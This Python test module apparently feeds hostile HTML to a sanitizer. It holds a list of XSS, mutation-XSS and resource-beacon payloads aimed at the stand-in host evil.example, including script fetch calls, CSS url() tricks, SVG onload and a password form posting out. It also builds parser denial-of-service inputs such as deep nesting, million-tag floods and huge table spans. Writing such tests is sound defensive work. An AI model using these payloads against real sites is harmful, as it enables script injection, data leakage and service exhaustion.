"""HTML that no engine answers in linear time or memory, or that a browser would fetch something for."""

# ruff: noqa: E501 - a trick is easier to recognise in one line
from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.attacks.attack import Attack, html

if TYPE_CHECKING:
    from collections.abc import Iterator

EVIL = "http://evil.example/beacon"
"""What must stand nowhere in the safe HTML as something that loads."""

TRICKS = (
    f'<img src="{EVIL}"><img src="//evil.example/a"><img src="ht\ttp://evil.example/b">',
    f'<img srcset="{EVIL} 1x, {EVIL}2 2x"><picture><source srcset="{EVIL}"></picture>',
    f'<image src="{EVIL}"><input type=image src="{EVIL}"><video poster="{EVIL}" src="{EVIL}"></video>',
    f'<audio src="{EVIL}"></audio><object data="{EVIL}"></object><embed src="{EVIL}">',
    f'<iframe src="{EVIL}" srcdoc="<img src={EVIL}>"></iframe><frameset><frame src="{EVIL}"></frameset>',
    f'<script src="{EVIL}"></script><script>fetch("{EVIL}")</script>',
    f'<body background="{EVIL}"><table background="{EVIL}"><tr background="{EVIL}"><td background="{EVIL}">x',
    f'<link rel=stylesheet href="{EVIL}"><link rel=dns-prefetch href="{EVIL}"><link rel=preconnect href="{EVIL}">',
    f'<link rel=icon href="{EVIL}"><link rel=prefetch href="{EVIL}"><link rel=manifest href="{EVIL}">',
    f'<base href="{EVIL}/"><img src=a><meta http-equiv=refresh content="0;url={EVIL}">',
    f'<p style="background:url(\'{EVIL}\')">x<p style="list-style:url({EVIL})">x',
    f'<p style="background:\\75 rl({EVIL})">x<p style="cursor:URL({EVIL}),auto">x',
    f'<p style="background:u/**/rl({EVIL})">x<p style="background:url({EVIL}">x',
    f'<p style="--x:url({EVIL});background:var(--x)">x<p style="background:image-set(\'{EVIL}\' 1x)">x',
    f'<p style="width:expression(fetch(\'{EVIL}\'))">x<p style="-moz-binding:url({EVIL})">x',
    f'<p style="content:url({EVIL});mask:url({EVIL});border-image:url({EVIL});clip-path:url({EVIL}#a)">x',
    f'<p style="font:url({EVIL});filter:url({EVIL});shape-outside:url({EVIL})">x',
    f"<style>@import '{EVIL}';body{{background:url({EVIL})}}@font-face{{src:url({EVIL})}}</style>x",
    f"<style>p::before{{content:url({EVIL})}}@media all{{p{{background:url({EVIL})}}}}</style><p>x",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;opacity:0">over all',
    '<p style="margin:-9999px;transform:scale(99);animation:x 1s infinite">moved',
    f'<svg><image href="{EVIL}"/><image xlink:href="{EVIL}"/><feImage href="{EVIL}"/></svg>',
    f'<svg><script>fetch("{EVIL}")</script><style>*{{fill:url({EVIL}#a)}}</style></svg>',
    f'<svg><image><set attributeName=href to="{EVIL}"/></image><a href="javascript:1"><text>x</text></a></svg>',
    f'<svg><foreignObject><iframe src="{EVIL}"></iframe></foreignObject></svg><svg onload="fetch(\'{EVIL}\')">',
    f'<math href="{EVIL}"><mi xlink:href="javascript:1">x</mi></math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={EVIL} onerror=1&gt;">',
    f'<svg></p><style><a id="</style><img src={EVIL} onerror=fetch(1)>">',
    f'<noscript><p title="</noscript><img src={EVIL} onerror=1>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src={EVIL} onerror=1>",
    f'<template shadowrootmode=open><img src="{EVIL}"></template><div><template><img src="{EVIL}"></template></div>',
    f'<noscript><img src="{EVIL}"></noscript><xmp><img src="{EVIL}"></xmp><textarea><img src="{EVIL}">',
    f'<!--><img src="{EVIL}">--><![CDATA[<img src="{EVIL}">]]><?xml <img src="{EVIL}">?>',
    f'<!--[if mso]><img src="{EVIL}"><![endif]--><![if !mso]><img src="{EVIL}"><![endif]>',
    f'<img src="x" onerror="fetch(\'{EVIL}\')"><p onmouseover="1">x<details ontoggle=1 open>x</details>',
    '<a href="javascript:alert(1)">a</a><a href=" java\tscript:alert(1)">b</a><a href="data:text/html,x">c</a>',
    '<a href="vbscript:x">a</a><a href="file:///etc/passwd">b</a><a href="//evil.example">c</a>',
    '<a href="https://example.com&#10;/x">a</a><a href="https:/\\evil.example">b</a><a href="&#1;javascript:1">c</a>',
    f'<form action="{EVIL}"><input name=password type=password><button formaction="{EVIL}">go</button></form>',
    f'<a href="https://example.com/" ping="{EVIL}">x</a><area href="javascript:1"><q cite="{EVIL}">x</q>',
    f'<marquee behavior=alternate loop=99999>x</marquee><bgsound src="{EVIL}"><isindex action="{EVIL}">',
    f"<img src=\"data:image/svg+xml,<svg onload=1><image href='{EVIL}'/></svg>\">",
    "<a href='x' href='javascript:1'>twice</a><img alt='a' alt='b'><p id=x id=y>z",
    "<plaintext><img src=x>",
    "<p dir=rtl>\u202eright\u202c</p><bdo dir=rtl>left</bdo>",
    f"![x]({EVIL}) [y](javascript:alert(1)) <{EVIL}> `code` **bold** # title",
)


def _nest(tag: str, count: int) -> str:
    return f"<{tag}>" * count + "words in the middle" + f"</{tag.split(maxsplit=1)[0]}>" * count


def _columns(rows: int, columns: int) -> str:
    row = "<tr>" + "<td>cell</td>" * columns + "</tr>"
    return f"<table>{row * rows}</table>"


def attacks() -> Iterator[Attack]:
    """Every attack by HTML."""
    for count in (1_000, 20_000, 100_000):
        yield Attack(f"html-divs-{count}", lambda n=count: html(_nest("div", n)))
        yield Attack(f"html-open-divs-{count}", lambda n=count: html("<div>" * n + "words"))
    for tag in (
        "ul><li",
        "table><tr><td",
        "blockquote",
        "span",
        "b",
        "font",
        "a href=x",
        "p",
        "svg><g",
        "math",
        "select><option",
        "dl><dd",
        "form",
        "fieldset",
        "ruby><rt",
        "object",
        "button",
        "template",
        "x-y",
    ):
        name = "".join(char for char in tag if char.isalnum())
        yield Attack(
            f"html-deep-{name}",
            lambda t=tag: html(f"<{t}>" * 20_000 + "words"),
        )
    yield Attack(
        "html-formatting-distinct", lambda: html("".join(f"<b id={n}>" for n in range(20_000)) + "words")
    )
    yield Attack(
        "html-formatting-blocks",
        lambda: html("".join(f"<b id={n}><p>" for n in range(20_000)) + "words"),
        "without a parser",
    )
    yield Attack(
        "html-formatting-tables",
        lambda: html("".join(f"<i id={n}><table>" for n in range(5_000)) + "words"),
        "without a parser",
    )
    yield Attack("html-adoption-agency", lambda: html("<a><b><p></a></b>" * 20_000 + "words"))
    for name in ("body", "html", "p", "table", "x"):
        yield Attack(
            f"html-attributes-{name}",
            lambda t=name: html(f"<{t} " + " ".join(f"a{n}=1" for n in range(50_000)) + ">words"),
            "attributes",
        )
    for name in ("body", "html"):
        yield Attack(
            f"html-repeated-{name}",
            lambda t=name: html("".join(f"<{t} a{n}=1>" for n in range(20_000)) + "words"),
            "root",
        )
    yield Attack(
        "html-options", lambda: html("<select>" + "<option>x" * 20_000 + "</select>words"), "options"
    )
    yield Attack("html-tags-million", lambda: html("<br>" * 1_000_000), "tags")
    yield Attack("html-less-than-million", lambda: html("<" * 1_000_000 + " words"))
    yield Attack("html-open-tags-unended", lambda: html("<a " * 300_000))
    yield Attack("html-quotes-unended", lambda: html('<a href="' * 200_000))
    yield Attack("html-comment-unended", lambda: html("words<!--" + "-" * 5_000_000))
    yield Attack("html-comments", lambda: html("<!-- -- >" * 300_000 + "words"))
    yield Attack("html-cdata", lambda: html("<![CDATA[" * 300_000))
    yield Attack("html-entities", lambda: html("&amp" * 500_000 + "&#" + "9" * 500_000 + ";"))
    yield Attack("html-entities-nested", lambda: html("&amp;" * 5_000 + "lt;"))
    yield Attack("html-attribute-5MB", lambda: html('<p title="' + "x" * 5_000_000 + '">words'))
    yield Attack(
        "html-data-uri-6MB", lambda: html('<img src="data:image/png;base64,' + "QUFB" * 1_500_000 + '">')
    )
    yield Attack("html-style-attribute", lambda: html(f'<p style="{"color:red;" * 100_000}">words'))
    yield Attack(
        "html-style-escapes", lambda: html(f'<p style="background:{chr(92) + "75 " * 200_000}rl(x)">words')
    )
    yield Attack("html-style-comments", lambda: html(f'<p style="{"/*" * 300_000}color:red">words'))
    yield Attack("html-style-block", lambda: html(f"<style>{'a{' * 300_000}</style>words"))
    yield Attack(
        "html-style-selectors", lambda: html(f"<style>{'*>' * 100_000}*{{display:none}}</style>words")
    )
    yield Attack(
        "html-hidden-words", lambda: html('<div style="display:none">' + "hidden " * 100_000 + "</div>words")
    )
    yield Attack("html-table-5MB", lambda: html(_columns(400, 600)))
    yield Attack("html-table-wide", lambda: html(_columns(1, 30_000)))
    yield Attack("html-table-long", lambda: html(_columns(30_000, 1)))
    yield Attack(
        "html-table-spans",
        lambda: html(
            "<table>" + '<tr><td colspan="2147483647" rowspan="2147483647">x</td></tr>' * 2_000 + "</table>"
        ),
    )
    yield Attack(
        "html-table-nested", lambda: html("<table><tr><td>" * 300 + "words" + "</td></tr></table>" * 300)
    )
    yield Attack(
        "html-links-10000",
        lambda: html("".join(f'<a href="https://example.com/{n}">link {n}</a> ' for n in range(10_000))),
        "2,000",
    )
    yield Attack("html-same-links", lambda: html('<a href="https://example.com/">x</a> ' * 10_000), "2,000")
    yield Attack(
        "html-images-10000",
        lambda: html("".join(f'<img width=1 height=1 src="{EVIL}/{n}">' for n in range(10_000)) + "words"),
    )
    yield Attack("html-blank-lines", lambda: html("<p>&nbsp;</p>" * 30_000 + "words"))
    yield Attack("html-long-word", lambda: html("<p>" + "a" * 4_000_000))
    yield Attack("html-many-short-lines", lambda: html("a<br>" * 45_000))
    yield Attack("html-footers", lambda: html("<p>Unsubscribe from this list</p>" * 20_000))
    yield Attack("html-copyrights", lambda: html("<p>" + "© 2026 All rights reserved. " * 50_000))
    yield Attack("html-addresses", lambda: html("<p>" + "reader@example.org " * 50_000))
    yield Attack("html-at-signs", lambda: html("<p>" + "a@" * 500_000))
    yield Attack(
        "html-unicode",
        lambda: html("".join(chr(n) for n in range(0x20, 0x2FFFF) if not 0xD800 <= n < 0xE000)),
    )
    yield Attack("html-accents", lambda: html("<p>z" + "\u0300" * 500_000))
    for number, trick in enumerate(TRICKS):
        yield Attack(f"trick-{number:02}", lambda t=trick: html(f"<p>Words to read.</p>{t}"))
